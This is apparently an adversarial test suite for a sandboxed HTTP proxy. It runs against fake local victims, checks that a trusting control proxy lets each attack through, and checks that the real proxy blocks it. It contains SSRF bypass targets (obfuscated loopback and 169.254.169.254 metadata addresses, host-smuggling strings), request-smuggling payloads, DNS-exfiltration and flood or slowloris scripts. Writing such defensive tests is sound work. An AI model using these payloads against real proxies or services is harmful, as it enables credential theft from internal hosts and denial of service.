#!/usr/bin/env python3
"""The proxy of commands under attack: what a hostile command asks it for, and what must come of it.

    broker.py CLIENT ATTACK [--as-user]     (CLIENT: client.c, built; ATTACK is not used)

In a network of the test's own (tests/fake/private_net.py). Each request is first made to a proxy that trusts
everybody: there it must succeed, or it proves nothing (then it is skipped, and said so). Through the real one it must
fail. As the user who starts it, and when that is root, again as an ordinary user. TAP on stdout."""

import os
import pwd
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [HERE, os.path.join(os.path.dirname(HERE), "fake")]

import private_net  # noqa: E402
from world import alive  # noqa: E402

CLIENT = os.path.abspath(sys.argv[1])
AS_USER = "--as-user" in sys.argv
GOOD, EVIL = "93.184.216.34", "93.184.216.66"
NAMES = [(GOOD, "good.test a.good.test"), (EVIL, "evil.test"), ("127.0.0.1", "rebind.test"), ("::1", "rebind6.test"),
         (GOOD, "mixed.test"), ("10.9.8.7", "mixed.test")]
ALLOWED = ["good.test", "*.good.test", "rebind.test", "rebind6.test", "mixed.test"]
number = bad = proven = 0


def tap(ok, name, note=""):
    global number, bad
    number += 1
    bad += not ok
    print("%sok %d - %s%s%s" % ("" if ok else "not ", number, "user: " if AS_USER else "", name, " # " + note if note else ""),
          flush=True)


# --- the world ---


class Victim:
    """Says its banner to whoever connects, and keeps what it is told."""

    def __init__(self, address, port, banner):
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        self.banner, self.heard, self.count = banner, b"", 0
        self.socket = socket.socket(family)
        self.socket.bind((address, port))
        self.socket.listen(64)
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            s, _ = self.socket.accept()
            self.count += 1
            threading.Thread(target=self.one, args=(s,), daemon=True).start()

    def one(self, s):
        try:
            s.sendall(self.banner)
            s.settimeout(1)
            while True:
                d = s.recv(4096)
                if not d:
                    break
                self.heard += d
        except OSError:
            pass
        s.close()


class Names:
    """A name server that knows nothing, but hears what is asked for."""

    def __init__(self):
        self.asked = b""
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((private_net.DNS, 53))
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            d, who = self.socket.recvfrom(4096)
            self.asked += d
            self.socket.sendto(d[:2] + struct.pack(">H", 0x8183) + d[4:], who)  # no such name


class Trusting:
    """A proxy that takes everything for what it seems to be, and serves it."""

    def __init__(self):
        self.open, self.bytes = 0, 0
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(512)
        threading.Thread(target=self.serve, daemon=True).start()

    def url(self):
        return "http://emend:%s@127.0.0.1:%d" % ("t" * 40, self.socket.getsockname()[1])

    def serve(self):
        while True:
            s, _ = self.socket.accept()
            threading.Thread(target=self.one, args=(s,), daemon=True).start()

    def one(self, s):
        self.open += 1
        data = b""
        try:
            while True:
                data = data.replace(b"\r\n", b"\n")
                head, found, rest = data.partition(b"\n\n")
                if found:
                    s.sendall(b"HTTP/1.1 200 OK\r\n\r\n" + self.banners(head.split(b"\n")[0].decode("latin-1")))
                    data = rest.lstrip(b"0123456789abcdef\n") if rest[:1].isdigit() else rest
                    continue
                d = s.recv(65536)
                if not d:
                    break
                self.bytes += len(d)
                data = (data + d)[-65536:]
        except (OSError, ValueError, IndexError):
            pass
        self.open -= 1
        s.close()

    def banners(self, line):
        target = line.split()[1]
        if "://" in target:
            target = target.split("://")[1]
        target = urllib.parse.unquote(target)
        for end in "\0/#,":
            target = target.split(end)[0]
        target = target.split("@")[-1]
        host, _, port = target.rpartition(":") if ":" in target.rpartition("]")[2] else (target, "", "80")
        out = b""
        try:
            found = socket.getaddrinfo(host.strip("[]").rstrip("."), int(port or 80), type=socket.SOCK_STREAM)
        except OSError:
            found = []
        for info in found:
            with socket.socket(info[0]) as t:
                t.settimeout(2)
                try:
                    t.connect(info[4])
                    out += t.recv(100)
                except OSError:
                    pass
        return out


# Run as `python3 hack.py`, inside and outside: sends what stands in the file "request" and prints what comes.
HACK = r'''
import base64, os, socket, sys, urllib.parse
u = urllib.parse.urlsplit(os.environ["https_proxy"])
def basic(user, password): return b"Basic " + base64.b64encode(user + b":" + password)
right = b"Proxy-Authorization: " + basic(b"emend", u.password.encode())
def dial(): return socket.create_connection((u.hostname, u.port), 10)
def speak(request, seconds=3, word=b"WELCOME"):
    s = dial()
    s.settimeout(seconds)
    out = b""
    try:
        s.sendall(request)
        while len(out) < 100000:
            d = s.recv(4096)
            if not d: break
            out += d
            if word in out: break
    except OSError: pass
    s.close()
    return out
if __name__ == "__main__":
    request = open("request", "rb").read()
    request = request.replace(b"@AUTH@", right).replace(b"@TOKEN@", u.password.encode())
    sys.stdout.buffer.write(speak(request, 3, open("word", "rb").read()))
'''


class World:
    def __init__(self):
        self.base = tempfile.mkdtemp(prefix="emend-broker-")
        self.ws = self.base + "/ws"
        os.mkdir(self.ws)
        self.victims = [Victim("127.0.0.1", 80, b"TOPSECRET loopback"), Victim("169.254.169.254", 80, b"TOPSECRET keys"),
                        Victim("10.9.8.7", 80, b"TOPSECRET intranet"), Victim(EVIL, 80, b"TOPSECRET evil"),
                        Victim(EVIL, 443, b"TOPSECRET evil")]
        try:
            self.victims.append(Victim("::1", 80, b"TOPSECRET loopback"))
        except OSError:
            pass
        self.good = [Victim(GOOD, 80, b"WELCOME"), Victim(GOOD, 443, b"WELCOME")]
        self.names, self.trusting = Names(), Trusting()
        self.put("hack.py", HACK.encode())

    def put(self, name, data):
        with open(self.ws + "/" + name, "wb") as f:
            f.write(data)

    def outside(self, command):
        env = dict(os.environ, https_proxy=self.trusting.url(), PYTHONDONTWRITEBYTECODE="1")
        return subprocess.run(["/bin/sh", "-c", command], cwd=self.ws, env=env, stdin=subprocess.DEVNULL, capture_output=True,
                              timeout=90, check=False).stdout

    def start(self, command, *options):
        hosts = [x for rule in ALLOWED for x in ("--host", rule)]
        return subprocess.Popen([CLIENT, *hosts, *options, self.ws, command], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)

    def inside(self, command, *options):
        p = self.start(command, *options)
        out, err = p.communicate(timeout=120)
        return out if p.returncode != 200 else b"no command ran: " + err

    def contacts(self):
        return sum(v.count for v in self.victims)


# --- requests ---


def connect(target):
    return b"CONNECT " + target + b" HTTP/1.1\r\n@AUTH@\r\n\r\n"


FORBIDDEN = [b"127.0.0.1:80", b"2130706433:80", b"0177.0.0.1:80", b"017700000001:80", b"0x7f000001:80", b"0x7f.1:80",
             b"127.1:80", b"127.0.1:80", b"0:80", b"0.0.0.0:80", b"[::1]:80", b"[0:0:0:0:0:0:0:1]:80", b"[::ffff:127.0.0.1]:80",
             b"[::ffff:7f00:1]:80", b"[::FFFF:127.0.0.1]:80", b"localhost:80", b"localhost.:80", b"LocalHost:80",
             b"169.254.169.254:80", b"2852039166:80", b"0xa9fea9fe:80", b"0251.0376.0251.0376:80", b"[::ffff:169.254.169.254]:80",
             b"[::ffff:a9fe:a9fe]:80", b"10.9.8.7:80", b"168364039:80", b"[::ffff:10.9.8.7]:80", b"rebind.test:80",
             b"REBIND.TEST.:80", b"rebind6.test:80", b"mixed.test:80", b"evil.test:80", b"evil.test:443", b"EVIL.test.:80",
             b"93.184.216.66:80", b"1572395074:80",
             # a name that is allowed in a place where another reader looks
             b"evil.test\0.good.test:80", b"evil.test%00.good.test:80", b"good.test@evil.test:80", b"good.test:80@evil.test:80",
             b"evil.test:80/.good.test:80", b"evil.test:80#.good.test:80", b"evil.test:80,good.test:80", b"evil.test:80 .good.test:80",
             b"http://evil.test/", b"evil.test:0080", b"evil.test: 80 HTTP/1.1\r\nHost: good.test:80"]

EVIL_CONNECT = b"CONNECT evil.test:80 HTTP/1.1\r\n@AUTH@\r\n\r\n"
SMUGGLED = [
    ("a second request behind one that is refused", connect(b"x.invalid:80") + EVIL_CONNECT, b"TOPSECRET"),
    ("a second request behind one that is allowed", connect(b"good.test:80") + EVIL_CONNECT, b"TOPSECRET"),
    ("a second request as the body of the first", b"CONNECT good.test:80 HTTP/1.1\r\n@AUTH@\r\nContent-Length: 99\r\n\r\n" + EVIL_CONNECT, b"TOPSECRET"),
    ("a second request in a chunk of the first",
     b"CONNECT good.test:80 HTTP/1.1\r\n@AUTH@\r\nTransfer-Encoding: chunked\r\n\r\n48\r\n" + EVIL_CONNECT, b"TOPSECRET"),
    ("a second request behind a GET", b"GET http://good.test/ HTTP/1.1\r\n@AUTH@\r\n\r\n" + EVIL_CONNECT, b"TOPSECRET"),
    ("lines that end in LF", b"CONNECT good.test:80 HTTP/1.1\n@AUTH@\n\n", b"WELCOME"),
    ("a header that is folded", b"CONNECT good.test:80 HTTP/1.1\r\n@AUTH@\r\nX: a\r\n b\r\n\r\n", b"WELCOME"),
    ("two tokens, the second right", b"CONNECT good.test:80 HTTP/1.1\r\nProxy-Authorization: Basic eDp5\r\n@AUTH@\r\n\r\n", b"WELCOME"),
    ("two tokens, the first right", b"CONNECT good.test:80 HTTP/1.1\r\n@AUTH@\r\nProxy-Authorization: Basic eDp5\r\n\r\n", b"WELCOME"),
    ("no token", b"CONNECT good.test:80 HTTP/1.1\r\nHost: good.test:80\r\n\r\n", b"WELCOME"),
    ("an empty token", b"CONNECT good.test:80 HTTP/1.1\r\nProxy-Authorization: Basic ZW1lbmQ6\r\n\r\n", b"WELCOME"),
    ("the token in the clear", b"CONNECT good.test:80 HTTP/1.1\r\nProxy-Authorization: Bearer @TOKEN@\r\n\r\n", b"WELCOME"),
    ("the token in another header", b"CONNECT good.test:80 HTTP/1.1\r\nAuthorization: @TOKEN@\r\n\r\n", b"WELCOME"),
    ("GET of another host", b"GET http://evil.test/ HTTP/1.1\r\n@AUTH@\r\n\r\n", b"TOPSECRET"),
    ("GET of an allowed host", b"GET http://good.test/ HTTP/1.1\r\n@AUTH@\r\n\r\n", b"WELCOME"),
    ("POST to this machine", b"POST http://127.0.0.1/ HTTP/1.1\r\n@AUTH@\r\n\r\n", b"TOPSECRET"),
    ("an allowed host at another port", connect(b"good.test:81"), b"TOPSECRET"),
    ("HTTP/2", b"CONNECT good.test:80 HTTP/2.0\r\n@AUTH@\r\n\r\n", b"WELCOME"),
    ("HTTP/0.9", b"CONNECT good.test:80\r\n@AUTH@\r\n\r\n", b"WELCOME"),
]


def request(w, name, raw, word):
    global proven
    w.put("request", raw)
    w.put("word", word)
    shown = word in w.outside("python3 hack.py")
    proven += shown
    before, heard = w.contacts(), sum(v.count for v in w.good)
    out = w.inside("python3 hack.py")
    held = word not in out and b"no command ran" not in out
    if word == b"TOPSECRET":
        held = held and w.contacts() == before
    elif word == b"WELCOME":
        held = held and sum(v.count for v in w.good) == heard
    if not held:
        print("#", out[:300])
    tap(held, name, "" if shown else "SKIP the control does not succeed here")


def requests(w):
    w.victims.append(Victim(GOOD, 81, b"TOPSECRET"))
    w.put("request", connect(b"good.test:80"))
    w.put("word", b"WELCOME")
    tap(b"WELCOME" in w.inside("python3 hack.py"), "control: an allowed host is reached")
    for target in FORBIDDEN:
        request(w, "CONNECT " + target.decode("latin-1").encode("unicode_escape").decode(), connect(target), b"TOPSECRET")
    for name, raw, word in SMUGGLED:
        request(w, name, raw, word)


def lookups(w):
    """What is looked up is told to a stranger, so an unlisted name must not be."""
    w.put("request", connect(b"s3cr3t.leak.test:443"))
    w.outside("python3 hack.py")
    shown = b"s3cr3t" in w.names.asked
    w.names.asked = b""
    w.inside("python3 hack.py")
    tap(b"s3cr3t" not in w.names.asked, "a name that carries data out is not looked up",
        "" if shown else "SKIP the control does not succeed here")
    direct = ("python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.sendto(b\"direct\",(\"%s\",53))'"
              % private_net.DNS)
    w.outside(direct)
    time.sleep(0.1)
    shown = b"direct" in w.names.asked
    w.names.asked = b""
    w.inside(direct)
    time.sleep(0.1)
    tap(b"direct" not in w.names.asked, "a datagram past the proxy", "" if shown else "SKIP the control does not succeed here")
    raw = "python3 -c 'import socket; print(socket.create_connection((\"%s\",80),2).recv(9))'" % EVIL
    shown = b"TOPSECRET" in w.outside(raw)
    tap(b"TOPSECRET" not in w.inside(raw), "a connection past the proxy", "" if shown else "SKIP the control does not succeed here")


# --- too much ---

FLOOD = r'''
from hack import *
import subprocess
many = []
try:
    for i in range(400):
        s = socket.socket(); s.setblocking(False); s.connect_ex((u.hostname, u.port)); many.append(s)
except OSError: pass
subprocess.run(["sleep", "95@MARK@"])  # it is killed when all were counted
for s in many: s.close()
print(speak(b"CONNECT good.test:80 HTTP/1.1\r\n" + right + b"\r\n\r\n", 30))
'''

GIANT = r'''
from hack import *
s = dial()
out, sent = b"", 0
try:
    s.sendall(b"CONNECT good.test:80 HTTP/1.1\r\n")
    while sent < 30000000: sent += s.send(b"X: " + b"a" * 60000 + b"\r\n")
except OSError: pass
print("SWALLOWED" if sent >= 30000000 else "held")
'''

SLOW = r'''
from hack import *
import time
many = [dial() for i in range(64)]
for s in many: s.sendall(b"CONNECT good.test:80 HT")
gone, end = 0, time.time() + 12
for s in many:
    s.settimeout(max(end - time.time(), 0.001))
    try: gone += s.recv(1) == b""
    except socket.timeout: pass
    except OSError: gone += 1
print("KEPT" if gone < 64 else "gone", speak(b"CONNECT good.test:80 HTTP/1.1\r\n" + right + b"\r\n\r\n", 30))
'''

MANY_HOSTS = r'''
from hack import *
for i in range(300):
    out = speak(b"CONNECT h%d.test:443 HTTP/1.1\r\n" % i + right + b"\r\n\r\n")
print(b"named more than" in out)
'''


def descriptors(pid):
    return len(os.listdir("/proc/%d/fd" % pid))


def flood(w):
    """400 connections at once: the server's descriptors are bounded, and it serves on."""
    mark = "%d" % os.getpid()
    w.put("flood.py", FLOOD.replace("@MARK@", mark).encode())

    def run(start, count):
        p = start()
        end = time.time() + 30
        while not alive("sleep\x0095" + mark) and time.time() < end:
            time.sleep(0.02)
        time.sleep(0.3)
        most = count(p)
        for pid in alive("sleep\x0095" + mark):
            os.kill(pid, 9)
        return most, p.communicate(timeout=60)[0]
    env = dict(os.environ, https_proxy=w.trusting.url(), PYTHONDONTWRITEBYTECODE="1")
    shown, _ = run(lambda: subprocess.Popen([sys.executable, "flood.py"], cwd=w.ws, env=env, stdout=subprocess.PIPE),
                   lambda p: w.trusting.open)
    most, out = run(lambda: w.start("python3 flood.py"), lambda p: descriptors(p.pid))
    tap(most < 160 and b"WELCOME" in out, "a flood of connections (%d descriptors)" % most,
        "" if shown >= 300 else "SKIP the control does not succeed here")


def exhaustion(w):
    flood(w)
    w.put("giant.py", GIANT.encode())
    shown = b"SWALLOWED" in w.outside("python3 giant.py")
    tap(b"held" in w.inside("python3 giant.py"), "a header without end", "" if shown else "SKIP the control does not succeed here")
    w.put("slow.py", SLOW.encode())
    p = w.start("python3 slow.py")
    shown = b"KEPT" in w.outside("python3 slow.py")
    out = p.communicate(timeout=90)[0]
    tap(b"gone" in out and b"WELCOME" in out, "requests that never come to their end",
        "" if shown else "SKIP the control does not succeed here")
    w.put("many.py", MANY_HOSTS.encode())
    tap(b"True" in w.inside("python3 many.py"), "hosts without number")


def ends(w):
    """Nothing of the proxy outlives the command."""
    w.put("daemon.py", ("from hack import *\nimport os,time\n"
                        "if os.fork() == 0:\n    os.setsid()\n    s = dial()\n    s.sendall(b'CONNECT good.test:443 HTTP/1.1\\r\\n' + right + b'\\r\\n\\r\\n')\n"
                        "    while True: s.sendall(b'BEAT'); time.sleep(0.02)\n"
                        "time.sleep(0.5)\n").encode())
    w.good[1].heard = b""
    w.inside("python3 daemon.py")
    beats = w.good[1].heard.count(b"BEAT")
    time.sleep(0.3)
    tap(beats > 0 and w.good[1].heard.count(b"BEAT") == beats, "a daemon's connection ends with its command")


def as_user():
    """Runs this again as an ordinary user."""
    place = tempfile.mkdtemp(prefix="emend-broker-bin-", dir="/var/tmp")
    os.chmod(place, 0o755)
    for f in (CLIENT, HERE + "/broker.py", HERE + "/world.py", private_net.__file__):
        shutil.copy(f, place)
    user = pwd.getpwnam("nobody")

    def become():
        os.setgroups([])
        os.setgid(user.pw_gid)
        os.setuid(user.pw_uid)
    p = subprocess.run(["/usr/bin/python3", place + "/broker.py", place + "/" + os.path.basename(CLIENT), "-", "--as-user"],
                       preexec_fn=become, cwd="/", stdout=subprocess.PIPE, check=False,
                       env={"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8", "PYTHONDONTWRITEBYTECODE": "1"})
    shutil.rmtree(place, ignore_errors=True)
    for line in p.stdout.decode().splitlines():
        if line.startswith(("ok ", "not ok ")):
            rest = line.split(" - user: ", 1)[1].split(" # ", 1)
            tap(line.startswith("ok"), "user: " + rest[0], rest[1] if len(rest) > 1 else "")
        elif line.startswith("#"):
            print(line)
    if p.returncode not in (0, 1):
        tap(False, "the run as an ordinary user came to its end")


def main():
    if os.getuid() == 0:
        as_user()
    why = private_net.enter(NAMES)
    if why:
        tap(True, "the proxy under attack", "SKIP " + why)
    else:
        w = World()
        try:
            state = w.inside("true")
            if b"no command ran" in state:
                tap(True, "the proxy under attack", "SKIP " + state.decode()[:200].replace("\n", " "))
            else:
                requests(w)
                lookups(w)
                exhaustion(w)
                ends(w)
                tap(proven >= 60, "at least sixty requests have a control that succeeds (%d)" % proven)
        finally:
            shutil.rmtree(w.base, ignore_errors=True)
    print("1..%d" % number)
    sys.exit(1 if bad else 0)


main()
